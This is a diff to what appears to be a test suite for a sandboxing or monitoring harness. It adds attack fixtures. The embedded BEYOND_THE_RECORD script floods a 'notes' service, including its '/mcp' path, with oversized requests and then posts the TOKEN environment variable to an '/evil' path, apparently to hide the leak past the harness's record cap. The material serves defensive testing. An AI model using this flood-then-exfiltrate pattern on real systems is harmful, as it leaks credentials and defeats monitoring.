@@ -51,6 +51,20 @@ try:
 except OSError:
     pass
 """
+BEYOND_THE_RECORD = """
+import http.client, os
+def post(path, text):
+    link = http.client.HTTPConnection("notes", 8080)
+    try:
+        link.request("POST", path, text)
+        link.getresponse().read()
+    except OSError:
+        pass
+for _ in range(40):
+    post("/mcp", "x" * (2 << 20))
+post("/evil", "x" * (2 << 20) + os.environ.get("TOKEN", ""))
+"""
+_NOTES = {"services": {"mcp": {"notes": {"tools": [{"name": "note"}]}}}}
 
 
 def _whole(finish):
@@ -78,6 +92,29 @@ ATTACKS = (
         "secret-behind-the-cap",
         "prints its secret behind more than is kept",
         python(BEHIND_OUTPUT, _SECRETS, secrets=["TOKEN"]),
+        "unavailable",
+        "not-observed",
+        "what was not searched cannot be free of secrets",
+        _UNSCANNED,
+    ),
+    Attack(
+        "asked-beyond-the-record",
+        "tells a service more than is kept, and asks behind that for what is forbidden",
+        python(
+            BEYOND_THE_RECORD,
+            [{"requests": {"service": "notes", "path": "/evil", "exactly": 0}}],
+            **_NOTES,
+        ),
+        "unavailable",
+        "not-observed",
+        "requests beyond a bound are counted, and a record that is not whole is not believed",
+        replaced("harness.oracles.counting:unrecorded", lambda evidence: ""),
+        docker=True,
+    ),
+    Attack(
+        "secret-beyond-the-record",
+        "tells a service its secret behind more than is kept",
+        python(BEYOND_THE_RECORD, _SECRETS, secrets=["TOKEN"], **_NOTES),
         "unavailable",
         "not-observed",
         "what was not searched cannot be free of secrets",
